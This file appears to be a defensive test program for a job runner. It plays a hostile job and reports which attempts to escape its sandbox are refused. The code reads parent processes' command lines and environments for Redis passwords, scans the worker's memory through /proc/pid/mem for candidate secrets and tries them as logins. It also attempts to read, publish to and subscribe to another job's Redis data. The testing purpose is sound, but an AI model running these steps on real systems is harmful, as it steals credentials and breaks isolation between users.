"""A hostile exec program: it tries to reach beyond its own job.

It prints one line per attempt, "ATTACK <name> <outcome> <detail>", where
outcome is "refused" (the attack failed) or "OPEN" (it worked), then
"HOSTILE DONE" and exits 0. argv[1] is another job's ID. It speaks RESP
over a socket (no client library needed).
"""
import os, re, socket, sys

other = sys.argv[1]
own = os.environ.get("EDL_JOB_ID", "")


def report(name, ok, detail=""):
    print("ATTACK %s %s %s" % (name, "OPEN" if ok else "refused", detail.replace("\n", " ")[:300]), flush=True)


def read_proc(pid, what):
    try:
        with open("/proc/%d/%s" % (pid, what), "rb") as f:
            return f.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError as e:
        return "ERR " + e.strerror


def ppid_of(pid):
    st = read_proc(pid, "stat")
    return int(st[st.rindex(")") + 2:].split()[1]) if ")" in st else 0


# The processes above the program, up to its worker (`edl worker`; a
# reaper may sit between them).
chain = []
pid = os.getpid()
worker = 0
for _ in range(3):
    pid = ppid_of(pid)
    if pid <= 1:
        break
    chain.append(pid)
    if " worker " in read_proc(pid, "cmdline"):
        worker = pid
        break
texts = {}
for p in chain:
    for what in ("cmdline", "environ"):
        texts["%d/%s" % (p, what)] = read_proc(p, what)
for k, v in texts.items():
    print("PROC %s %s" % (k, v[:2000]), flush=True)

# Where Redis is: the worker's --redis flag.
m = re.search(r"redis://(?:[^@ ]*@)?([0-9.]+):(\d+)", texts.get("%d/cmdline" % worker, ""))
if not m:
    report("find-redis", False, "no --redis on the worker's command line")
    print("HOSTILE DONE", flush=True)
    sys.exit(0)
host, port = m.group(1), int(m.group(2))
for k, v in texts.items():
    pw = re.search(r"redis://[^:@ ]*:([^@ ]+)@", v) or re.search(r"EDL_REDIS_PASSWORD=(\S+)", v)
    report("password-in-" + k.split("/")[1], bool(pw), pw.group(0) if pw else "")


class Conn:
    def __init__(self):
        self.s = socket.create_connection((host, port), timeout=5)
        self.f = self.s.makefile("rb")

    def cmd(self, *args):
        out = b"*%d\r\n" % len(args)
        for a in args:
            a = a if isinstance(a, bytes) else str(a).encode()
            out += b"$%d\r\n%s\r\n" % (len(a), a)
        self.s.sendall(out)
        return self.reply()

    def reply(self):
        line = self.f.readline().rstrip(b"\r\n")
        t, rest = line[:1], line[1:]
        if t == b"+":
            return rest.decode()
        if t == b"-":
            return Exception(rest.decode())
        if t == b":":
            return int(rest)
        if t == b"$":
            n = int(rest)
            if n < 0:
                return None
            data = self.f.read(n + 2)[:-2]
            return data.decode("utf-8", "replace")
        if t == b"*":
            n = int(rest)
            return None if n < 0 else [self.reply() for _ in range(n)]
        return Exception("bad reply %r" % line)


def attacks(tag, c):
    r = c.cmd("SCAN", 0, "COUNT", 1000)
    report(tag + "-scan", not isinstance(r, Exception), str(r))
    r = c.cmd("KEYS", "*")
    report(tag + "-keys", not isinstance(r, Exception), str(r))
    r = c.cmd("HGET", "edl:{%s}:job" % other, "d")
    report(tag + "-get-other-job", not isinstance(r, Exception) and r is not None, str(r))
    r = c.cmd("XRANGE", "edl:{%s}:events" % other, "-", "+")
    report(tag + "-other-events", not isinstance(r, Exception), str(r))
    r = c.cmd("ZRANGE", "edl:active", 0, -1)
    report(tag + "-active-index", not isinstance(r, Exception), str(r))
    r = c.cmd("PUBSUB", "CHANNELS")
    report(tag + "-pubsub-channels", not isinstance(r, Exception), str(r))
    r = c.cmd("CLIENT", "LIST")
    report(tag + "-client-list", not isinstance(r, Exception), str(r))
    r = c.cmd("PUBLISH", "edl:{%s}:events" % other, "done")
    report(tag + "-publish-other", not isinstance(r, Exception), str(r))
    r = c.cmd("SUBSCRIBE", "edl:{%s}:events" % other)
    report(tag + "-subscribe-other", isinstance(r, list), str(r))


# 1. No login at all, and the default user with no password.
c = Conn()
attacks("anonymous", c)
r = Conn().cmd("AUTH", "default", "")
report("default-user-empty-password", not isinstance(r, Exception), str(r))

# 2. The worst case: its own workers' login, taken from the worker's memory
# (possible only where the program may read it: root).
user = re.search(r"EDL_REDIS_USER=(\S+)", texts.get("%d/environ" % worker, ""))
user = user.group(1) if user else "edl-job-" + own
cands, seen = [], set()
try:
    with open("/proc/%d/maps" % worker) as maps, open("/proc/%d/mem" % worker, "rb") as mem:
        for line in maps:
            f = line.split()
            if "r" not in f[1] or (len(f) > 5 and f[5].startswith("[v")):
                continue
            lo, hi = (int(x, 16) for x in f[0].split("-"))
            if hi - lo > 256 << 20:
                continue
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            # Go strings are not delimited in memory: try every 64-char
            # window of a hex run (runs are short and rare).
            for m in re.finditer(rb"[0-9a-f]{64,256}", chunk):
                run = m.group(0)
                for i in range(len(run) - 63):
                    if run[i:i + 64] not in seen:
                        seen.add(run[i:i + 64])
                        cands.append(run[i:i + 64])
    report("worker-memory", True, "%d candidate passwords" % len(cands))
except OSError as e:
    report("worker-memory", False, e.strerror)
logged = None
c = Conn()
for p in cands[:20000]:
    if c.cmd("AUTH", user, p) == "OK":
        logged = c
        break
report("login-as-own-workers", logged is not None, user)
if logged is not None:
    r = logged.cmd("HGET", "edl:{%s}:job" % own, "v")
    report("own-job-readable", not isinstance(r, Exception), str(r))  # expected OPEN: its own job
    attacks("own-login", logged)
print("HOSTILE DONE", flush=True)
